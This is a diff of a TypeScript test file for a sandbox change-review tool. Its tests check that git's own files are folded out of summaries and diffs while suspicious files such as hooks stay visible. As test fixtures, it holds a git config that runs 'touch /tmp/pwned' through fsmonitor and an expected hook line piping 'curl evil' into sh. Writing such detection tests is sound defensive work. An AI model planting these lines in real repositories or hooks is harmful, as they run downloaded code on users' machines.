@@ -9,7 +9,8 @@ import { mkdirSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { makeFixture, markStarted, whiteout, write, type Fixture } from './changes-fixture.js';
 import { scanSandbox, scanSandboxAsync } from '../../sandbox-core/changes/scan.js';
-import { changesJson, renderSummary, summaryMarker, summaryPlan } from '../../cli/render-changes.js';
+import { changesJson, columnDiffs, renderDiffs, renderSummary, summaryMarker, summaryPlan, DIFF_MAX_BYTES } from '../../cli/render-changes.js';
+import { DiffFolds } from '../../cli/render-diff-folds.js';
 import { gitRepoOf } from '../../sandbox-core/changes/repo-fold.js';
 import type { Change } from '../../sandbox-core/changes/types.js';
 
@@ -120,7 +121,7 @@ test('a new repository is one added line; what git init writes that can run code
   write(U('description'), 'd\n');
   write(U('config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
   write(U('hooks/update.sample'), '#!/bin/sh\n');
-  write(U('info/exclude'), '# x\n');
+  write(U('info/exclude'), '# x\n*.o\n');
   write(join(f.upper(), 'new/x'), 'x\n');
   const { changes } = scanSandbox(f.meta);
   const out = renderSummary(changes, plain);
@@ -210,6 +211,94 @@ test('deleted repository entries without a modified one go with the kind they ha
   const ch = (path: string, change: Change['change']): Change => ({ path, change, type: 'file', size: 1 });
   const out = renderSummary([ch('/r/.git/objects/aa/' + 'b'.repeat(38), 'deleted'), ch('/r/x', 'added')], plain);
   assert.ok(out.includes('Deleted (1):\n  deleted:  /r: git: 1 object entry removed (1 entry), folded\n'), out);
+});
+
+
+/** What `git init` 2.39 writes in config and info/exclude. */
+const INIT_CONFIG = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';
+const TEMPLATE_EXCLUDE = "# git ls-files --others --exclude-from=.git/info/exclude\n# Lines that start with '#' are comments.\n# *.[oa]\n# *~\n";
+
+test("git init's own config and info/exclude fold into the repository line, unflagged (changes and columns)", async () => {
+  const U = (p: string) => join(f.upper(), 'new/.git', p);
+  markStarted(f);
+  write(U('HEAD'), 'ref: refs/heads/main\n');
+  write(U('config'), `${INIT_CONFIG}[remote "origin"]\n\turl = /srv/x\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n`);
+  write(U('info/exclude'), TEMPLATE_EXCLUDE);
+  write(U('description'), 'd\n');
+  const { changes } = scanSandbox(f.meta);
+  const out = renderSummary(changes, plain);
+  assert.not.match(out, /\[!/, out);
+  assert.ok(out.includes(`  added:    ${f.host}/new: new git repository: HEAD -> main, config, description, info (`), out);
+  const marker = summaryMarker({});
+  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: 1 << 20, columns: true, markColumn: marker.mark });
+  assert.ok(scan.named && scan.named.length > 0);
+  assert.is(renderSummary(scan.changes, plain, { marker }, scan.named), out);
+});
+
+/** A commit in the host repository, a hook, a bytecode file and a work file, in the sandbox. */
+function workload(): void {
+  const { H, U } = hostRepo();
+  markStarted(f);
+  commitsAndHook(H, U);
+  write(U('config'), INIT_CONFIG);
+  write(join(f.upper(), 'repo/__pycache__/m.cpython-311.pyc'), 'bytecode\n');
+  write(join(f.upper(), 'repo/a.txt'), 'hi\nthere\n');
+}
+
+const diffNames = (text: string): string[] => text.split('\n').filter((l) => l.startsWith('diff ')).map((l) => l.slice(5).replace(/ \(\w+\)$/, '').slice(f.host.length + 1));
+
+test("sbx diff: what the summary folds gets no diff, one line per group says so; flagged files keep theirs", async () => {
+  workload();
+  const ref = 'trial';
+  const R = `${f.host}/repo`;
+  const want = ['repo/.git/hooks/pre-commit', 'repo/a.txt', 'repo/b.txt'];
+  const tail = [
+    `${R}: 14 diffs of git's own files left out (to see them: sbx diff trial ${R}/.git)`,
+    'python bytecode: 1 diff left out (to see them: sbx diff trial --all)',
+  ];
+  // The change list (no columns).
+  const { changes } = scanSandbox(f.meta);
+  const marker = summaryMarker({});
+  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref }));
+  assert.equal(diffNames(text), want, text);
+  assert.ok(text.includes('+curl evil | sh'), text);
+  assert.ok(text.endsWith(`${tail.join('\n')}\n`), text);
+  // The full review's scan: columns marked and their diffs made while the helper walks.
+  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: DIFF_MAX_BYTES, columns: true, markColumn: marker.mark, renderColumn: columnDiffs(plain)! });
+  assert.ok(scan.named && scan.named.length > 10);
+  const cols = await renderDiffs(scan.changes, plain, scan.named, new DiffFolds({ marker, ref }));
+  assert.is(cols, text);
+  // Without folds (--all) every text file has its diff, as before.
+  const all = await renderDiffs(changes, plain);
+  assert.ok(diffNames(all).length > 15, all);
+  assert.ok(diffNames(all).includes('repo/.git/logs/HEAD'), all);
+  assert.not.match(all, /left out/);
+});
+
+test('sbx diff PATH or --only inside the fold shows its diffs; a PATH above it does not', async () => {
+  workload();
+  const marker = summaryMarker({});
+  const { changes } = scanSandbox(f.meta);
+  const R = `${f.host}/repo`;
+  const named = async (o: { paths?: string[]; only?: string[] }) => diffNames(await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref: 'x', ...o })));
+  assert.ok((await named({ paths: [`${R}/.git`] })).includes('repo/.git/logs/HEAD'));
+  assert.not.ok((await named({ paths: [`${R}/.git/logs/`] })).includes('repo/.git/COMMIT_EDITMSG'));
+  assert.ok((await named({ paths: [`${R}/.git/logs/`] })).includes('repo/.git/logs/HEAD'));
+  assert.ok((await named({ only: ['.git/logs'] })).includes('repo/.git/logs/HEAD'));
+  assert.ok((await named({ only: ['*.pyc'] })).includes('repo/__pycache__/m.cpython-311.pyc'));
+  assert.not.ok((await named({ only: ['*.pyc'] })).includes('repo/.git/logs/HEAD'));
+  assert.equal(await named({ paths: [R] }), ['repo/.git/hooks/pre-commit', 'repo/a.txt', 'repo/b.txt']);
+  assert.equal(await named({ only: [`${R}/**`] }), ['repo/.git/hooks/pre-commit', 'repo/a.txt', 'repo/b.txt']);
+});
+
+test('the hint line escapes names and quotes the path for the shell', async () => {
+  const U = (p: string) => join(f.upper(), "it's \x1b[31m/.git", p);
+  markStarted(f);
+  write(U('logs/HEAD'), reflog('0'.repeat(40), A, 'commit (initial): x'));
+  const { changes } = scanSandbox(f.meta);
+  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker: summaryMarker({}), ref: 'a\x1bb' }));
+  assert.not.ok(text.includes('\x1b'), JSON.stringify(text));
+  assert.ok(text.includes(`(to see them: sbx diff 'a\\x1bb' '${f.host}/it'\\''s \\x1b[31m/.git')\n`), text);
 });
 
 test.run();
